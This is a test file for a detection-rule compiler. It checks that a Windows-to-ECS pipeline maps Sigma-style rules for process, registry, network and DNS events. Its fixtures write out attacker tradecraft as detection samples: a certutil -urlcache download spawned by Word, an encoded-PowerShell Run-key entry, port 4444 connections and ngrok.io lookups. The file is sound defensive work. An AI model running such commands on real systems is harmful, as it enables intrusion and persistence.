import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { compileYaml, matches, ruleWith } from '../testing/compile-yaml';

/** The shipped Windows → ECS pipeline, on Winlogbeat-shaped documents. */
const PIPELINE = readFileSync(
  resolve(__dirname, '..', '..', '..', '..', 'detections', 'pipelines', 'windows-ecs.yml'),
  'utf8',
);

describe('the windows-ecs pipeline', () => {
  it('maps a process creation rule onto process.* and keeps other fields under winlog.event_data', () => {
    const rule = compileYaml(
      ruleWith(
        "sel:\n  Image|endswith: '\\certutil.exe'\n  CommandLine|contains: urlcache\n  ParentImage|endswith: '\\winword.exe'\n  LogonId: '0x3e7'\ncondition: sel",
      ),
      { pipelines: [PIPELINE] },
    );
    const ecs = {
      process: {
        executable: 'C:\\Windows\\System32\\certutil.exe',
        command_line: 'certutil -urlcache -f http://x/a a',
        parent: { executable: 'C:\\Office\\WINWORD.EXE' },
      },
      winlog: { event_id: '1', event_data: { LogonId: '0x3e7' } },
    };
    expect(matches(rule, ecs)).toBe(true);
    expect(matches(rule, { ...ecs, process: { ...ecs.process, command_line: 'certutil -hashfile a' } })).toBe(
      false,
    );
    expect(
      matches(rule, {
        Image: 'C:\\certutil.exe',
        CommandLine: 'urlcache',
        ParentImage: 'C:\\winword.exe',
        LogonId: '0x3e7',
      }),
    ).toBe(false);
  });

  it('maps registry, network and dns fields for their categories', () => {
    const registry = compileYaml(
      ruleWith(
        "sel: { TargetObject|contains: '\\Run\\', Details|contains: 'powershell' }\ncondition: sel",
        '{ product: windows, category: registry_set }',
      ),
      { pipelines: [PIPELINE] },
    );
    expect(
      matches(registry, {
        registry: {
          path: 'HKU\\S\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x',
          data: { strings: ['powershell -enc A'] },
        },
      }),
    ).toBe(true);
    expect(
      matches(registry, { registry: { path: 'HKU\\S\\Software\\x', data: { strings: ['powershell'] } } }),
    ).toBe(false);
    const network = compileYaml(
      ruleWith(
        "sel: { DestinationPort: 4444, DestinationIp|cidr: '10.0.0.0/8' }\ncondition: sel",
        '{ product: windows, category: network_connection }',
      ),
      { pipelines: [PIPELINE] },
    );
    expect(matches(network, { destination: { ip: '10.1.2.3', port: 4444 } })).toBe(true);
    expect(matches(network, { destination: { ip: '10.1.2.3', port: 443 } })).toBe(false);
    const dns = compileYaml(
      ruleWith(
        "sel: { QueryName|endswith: '.ngrok.io' }\ncondition: sel",
        '{ product: windows, category: dns_query }',
      ),
      { pipelines: [PIPELINE] },
    );
    expect(matches(dns, { dns: { question: { name: 'abc.ngrok.io' } } })).toBe(true);
    expect(matches(dns, { dns: { question: { name: 'example.org' } } })).toBe(false);
  });

  it('leaves rules of other products alone', () => {
    const rule = compileYaml(
      ruleWith('sel: { eventName: DeleteTrail }\ncondition: sel', '{ product: aws, service: cloudtrail }'),
      { pipelines: [PIPELINE] },
    );
    expect(matches(rule, { eventName: 'DeleteTrail' })).toBe(true);
  });
});
